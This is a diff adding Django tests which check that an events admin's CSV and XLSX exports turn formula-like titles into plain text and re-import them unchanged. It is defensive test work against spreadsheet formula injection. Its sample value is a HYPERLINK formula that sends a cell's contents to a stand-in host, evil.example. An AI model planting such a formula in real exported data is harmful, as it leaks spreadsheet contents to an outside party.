@@ -209,3 +209,52 @@ def test_a_row_without_a_slug_changes_no_event():
         {"slug": ["This field cannot be blank."]}
     ]
     assert list(Event.objects.values_list("pk", "status")) == [(known.pk, "published")]
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"Open record")'
+
+
+def exported(client, file_format):
+    """The admin's export of every event's slug and English title, as rows."""
+    formats = {"csv": "0", "xlsx": "1"}
+    response = client.post(
+        reverse("admin:events_event_export"),
+        {
+            "resource": "0",
+            "format": formats[file_format],
+            "eventresource_slug": "on",
+            "eventresource_title_en": "on",
+        },
+    )
+    assert response.status_code == 200
+    if file_format == "csv":
+        return tablib.Dataset().load(response.content.decode(), format="csv")
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    return list(sheet.iter_rows(min_row=2))
+
+
+def test_a_formula_in_a_title_is_text_in_the_admins_csv_export(admin_client):
+    make_event(slug="leak", title=FORMULA)
+
+    rows = exported(admin_client, "csv")
+
+    assert rows.dict == [{"slug": "leak", "title_en": "'" + FORMULA}]
+
+
+def test_a_formula_in_a_title_is_text_in_the_admins_xlsx_export(admin_client):
+    make_event(slug="leak", title=FORMULA)
+
+    [(slug, title)] = exported(admin_client, "xlsx")
+
+    assert (slug.value, title.value, title.data_type) == ("leak", "'" + FORMULA, "s")
+
+
+def test_an_export_of_formula_like_texts_imports_back_unchanged():
+    titles = [FORMULA, "+1 more", "-5 degrees", "@home", "'=quoted", "plain"]
+    for number, title in enumerate(titles):
+        make_event(slug=f"event-{number}", title=title)
+    exported_csv = EventResource().export().csv
+
+    result = imported(exported_csv, dry_run=True)
+
+    assert result.totals["skip"] == len(titles)
